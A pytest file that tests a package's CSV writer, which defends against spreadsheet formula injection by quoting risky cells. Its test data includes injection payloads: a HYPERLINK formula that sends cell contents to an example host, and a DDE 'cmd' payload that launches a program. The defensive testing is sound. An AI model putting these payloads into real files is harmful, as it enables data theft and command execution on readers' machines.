"""CSV that spreadsheets may open: what they would compute is quoted, numbers stay
numbers, all of it reads back.
"""

from __future__ import annotations

import csv
import io
import json

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from invoking import call

import permgrad as pg
from permgrad.base.csv_files import (
    csv_formulas,
    csv_text,
    quoted,
    read_csv,
    unquoted,
    write_csv,
)

#: Texts that a spreadsheet computes, or takes for a formula where it skips white space.
FORMULAS = (
    '=HYPERLINK("http://example.org/?" & A1, "see")', "=1+1", "+1+1", "-1+1", "-cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "＝1+1", "＋1", "－1+1", "＠SUM(A1)", "--1", "+-1", "-1,5", "-inf", "=",
    "-1 year",
)  # fmt: skip
#: Texts that it shows as they are.
HARMLESS = (
    "a=b",
    "1-2",
    "x@y",
    "-",
    "+",
    "-2.5",
    "+3",
    "-1e-5",
    "-.5",
    "+7.",
    "",
    "'",
    "'a'",
    " a",
    "été",
    "a\nb",
    "a,b",
    'a"b',
)
#: What the quote itself must not be mistaken for.
QUOTES = ("'=1", "''=1", "'-", "'@", "'\t", "'+1", "''")


def cells(path):
    """Return the cells of a file as Python's reader has them, which knows nothing of
    quotes of ours.
    """
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file))


# ---- texts ---------------------------------------------------------------------------


@pytest.mark.parametrize("text", [text for text in FORMULAS if len(text) > 1])
def test_formulas_get_one_quote(text):
    assert quoted(text) == f"'{text}"
    assert unquoted(quoted(text)) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stay_as_they_are(text):
    assert quoted(text) == unquoted(text) == text


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("'=+-@\t\r\n＝＋－＠1.e, ab\""), max_size=6))
def test_quoting_is_undone_and_leaves_no_formula(text):
    assert unquoted(quoted(text)) == text
    shown = quoted(text)
    # A number, or a sign alone, computes nothing.
    assert (
        shown[:1] not in tuple("=+-@\t\r\n＝＋－＠")
        or len(shown) == 1
        or np.isfinite(float(shown))
    )


# ---- files ---------------------------------------------------------------------------


def written(tmp_path, frame):
    return write_csv(frame, tmp_path / "a.csv"), tmp_path / "a.csv"


@pytest.mark.parametrize("mode", ["quote", "keep"])
@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS, *QUOTES])
def test_files_read_back_as_they_were(tmp_path, text, mode):
    """Cells and names; also carriage returns, which Python's writer leaves bare: what
    follows would be a line.
    """
    frame = pd.DataFrame(
        {"row": [1, 2], text + "name": [text, "z"], "value": [-1.5, np.nan]}
    )
    with csv_formulas(mode):
        count, path = written(tmp_path, frame)
        text_of, counted = csv_text(frame)
    assert counted == count
    assert text_of.encode() == path.read_bytes()
    file_cells = cells(path)
    assert [len(line) for line in file_cells] == [3, 3, 3]
    if mode == "keep":
        assert count == 0
        assert [file_cells[0][1], file_cells[1][1]] == [text + "name", text]
        if text in QUOTES:
            # nothing in the file says that it was written so, and a quote of ours is
            # taken off
            return
    else:
        assert count == (quoted(text) != text) + (
            quoted(text + "name") != text + "name"
        )
        assert [file_cells[0][1], file_cells[1][1]] == [
            quoted(text + "name"),
            quoted(text),
        ]
    again = read_csv(
        path, dtype={1: str}, keep_default_na=False, na_values={"value": [""]}
    )
    assert again.columns.tolist() == frame.columns.tolist()
    assert again.iloc[:, 1].tolist() == [text, "z"]
    np.testing.assert_array_equal(again[["row", "value"]], frame[["row", "value"]])


def test_the_given_frame_stays_as_it_is(tmp_path):
    frame = pd.DataFrame({"=a": ["=1", "b"], "b": pd.Categorical(["-x", "y"])})
    before = frame.copy(deep=True)
    assert written(tmp_path, frame)[0] == 3
    pd.testing.assert_frame_equal(frame, before)


def test_numbers_stay_numbers(tmp_path):
    """A quote before a negative number would make a column of numbers one of text for
    every program.
    """
    frame = pd.DataFrame(
        {
            "whole": [-1, 2], "real": [-1.5, 1e300], "none": [np.nan, -0.25], "beyond": [-np.inf, np.inf],
            "nullable": pd.array([-3, None], dtype="Int64"), "mixed": pd.Series([-4.5, "=x"], dtype=object),
            "written": ["-1.5", "+2"], "when": pd.to_datetime(["2020-01-01", "2021-01-01"]), "yes": [True, False],
        }
    )  # fmt: skip
    count, path = written(tmp_path, frame)
    assert count == 1, "of the mixed column"
    assert cells(path)[1] == [
        "-1",
        "-1.5",
        "",
        "-inf",
        "-3",
        "-4.5",
        "-1.5",
        "2020-01-01",
        "True",
    ]
    again = read_csv(path)
    numeric = ["whole", "real", "none", "beyond", "nullable"]
    np.testing.assert_array_equal(again[numeric], frame[numeric].astype(float))
    assert again["written"].tolist() == [-1.5, 2]
    assert again["mixed"].tolist() == ["-4.5", "=x"]


def test_levels_and_repeated_names_are_cells_too(tmp_path):
    frame = pd.DataFrame([["=1", "-a", 1]], columns=["=x", "=x", "b"])
    frame["c"] = pd.Categorical(["@l"])
    count, path = written(tmp_path, frame)
    assert count == 5
    assert cells(path) == [["'=x", "'=x", "b", "c"], ["'=1", "'-a", "1", "'@l"]]


def test_modes_are_of_the_body_alone(tmp_path):
    frame = pd.DataFrame({"a": ["=1"]})
    with csv_formulas("keep"):
        with csv_formulas(None):
            assert csv_text(frame) == ("a\n=1\n", 0), "None is as it is outside"
        with csv_formulas("quote"):
            assert csv_text(frame) == ("a\n'=1\n", 1)
    assert csv_text(frame) == ("a\n'=1\n", 1)
    with (
        pytest.raises(
            pg.InputError, match="csv-formulas must be one of 'quote', 'keep', got"
        ),
        csv_formulas("x"),
    ):
        pass


# ---- commands ------------------------------------------------------------------------

ID = "@id"
FEATURE = "=1+1"
LEVEL = '=HYPERLINK("http://example.org/?" & A1, "see")'
CLASS = "-no"


@pytest.fixture(scope="module", params=["quote", "keep"])
def commanded(request, tmp_path_factory):
    """The mode, and a folder with what run, predict and explain wrote of a table full
    of formulas.
    """
    base_folder = tmp_path_factory.mktemp(request.param)
    draw = np.random.default_rng(0)
    table = pd.DataFrame(
        {FEATURE: draw.normal(size=80), "b": draw.choice([LEVEL, "y"], 80)}
    )
    table["outcome"] = np.where(table[FEATURE] > 0, "=yes", CLASS)
    table[ID] = [f"+case {number}" for number in range(80)]
    table.to_csv(base_folder / "table.csv", index=False)
    preset = {
        "base": "fast",
        "branches": ["tabular"],
        "max_epochs": 1,
        "network": {"dense_units": [4]},
    }
    (base_folder / "preset.json").write_text(json.dumps(preset))
    mode = ("--csv-formulas", request.param)
    words = (
        "--target",
        "outcome",
        "--id",
        ID,
        "--preset",
        base_folder / "preset.json",
        "--out",
        base_folder / "run",
    )
    call("run", base_folder / "table.csv", *words)
    call(
        "predict",
        base_folder / "run",
        base_folder / "table.csv",
        "--out",
        base_folder / "p.csv",
        *mode,
    )
    explain_options = ("--method", "integrated_gradients", "--row", 0)
    call(
        "explain",
        base_folder / "run",
        base_folder / "table.csv",
        "--out",
        base_folder / "e",
        *explain_options,
    )
    return request.param, base_folder


#: Files of each command, with columns that hold formulas, and whether they stand in the
#: head as well.
FILES = {
    "run/predictions.csv": ({ID, "truth", "prediction"}, True),
    "run/importance.csv": ({"feature", "class"}, False),
    "p.csv": ({ID, "prediction"}, True),
    "e/importance.csv": ({"feature", "class"}, False),
    "e/rows.csv": ({"truth", "prediction"}, False),
}


@pytest.mark.parametrize("name", FILES)
def test_files_of_commands_are_quoted_or_kept(commanded, name):
    mode, base_folder = commanded
    dangerous = tuple("=+-@\t\r")
    columns, in_head = FILES[name]
    head, *lines = cells(base_folder / name)
    shown = [text for line in (head, *lines) for text in line]
    mode = mode if name == "p.csv" else "quote"  # predict alone takes it
    bare = [
        text for text in shown if text.startswith(dangerous) and not is_number(text)
    ]
    assert bool(bare) == (mode == "keep")
    quotes = [text for text in shown if text.startswith("'")]
    assert bool(quotes) == (mode == "quote")
    assert any(text.lstrip("'") == ID for text in head) == in_head
    file_table = read_csv(base_folder / name, keep_default_na=False)
    assert columns <= set(file_table.columns), (
        "as permgrad reads it, names are as they were"
    )
    for column in columns:
        texts = set(file_table[column].map(str))
        assert any(text.startswith(dangerous) for text in texts)
        assert texts <= {FEATURE, "b", "=yes", CLASS, "all"} | {
            f"+case {number}" for number in range(80)
        }
    if name == "e/importance.csv":
        assert (file_table["importance"] < 0).any(), (
            "attributions are numbers, the negative ones too"
        )


def is_number(text):
    try:
        return bool(float(text)) or True
    except ValueError:
        return False


def test_runs_are_read_back_by_their_report(commanded):
    """Classes are looked for in what the run wrote: a quote of ours must not hide
    them.
    """
    _, base_folder = commanded
    page = base_folder / "run" / "report.html"
    page.unlink()
    call("report", base_folder / "run")
    assert all(
        name in page.read_text(encoding="utf-8") for name in (FEATURE, CLASS, "=yes")
    )
    assert "Test rows" in call("run", *words_of(base_folder))


def words_of(base_folder):
    """Return the words of the same run again; it is finished, and only told."""
    words = (
        "--target",
        "outcome",
        "--id",
        ID,
        "--preset",
        base_folder / "preset.json",
        "--out",
        base_folder / "run",
    )
    return (base_folder / "table.csv", *words)


@pytest.mark.filterwarnings("ignore::permgrad.PermgradWarning")
def test_predictions_on_stdout_are_the_file(commanded):
    mode, base_folder = commanded
    text = call(
        "predict",
        base_folder / "run",
        base_folder / "table.csv",
        "--out",
        "-",
        "--csv-formulas",
        mode,
    )
    with (base_folder / "p.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(io.StringIO(text.rstrip("\n")))) == list(
            csv.reader(file)
        )


def test_other_modes_are_refused_before_the_work(commanded):
    _, base_folder = commanded
    message = call(
        "predict",
        base_folder / "run",
        base_folder / "table.csv",
        "--out",
        base_folder / "q.csv",
        "--csv-formulas",
        "x",
        code=2,
    )
    assert "csv-formulas must be one of 'quote', 'keep', got" in message
    assert not (base_folder / "q.csv").exists()
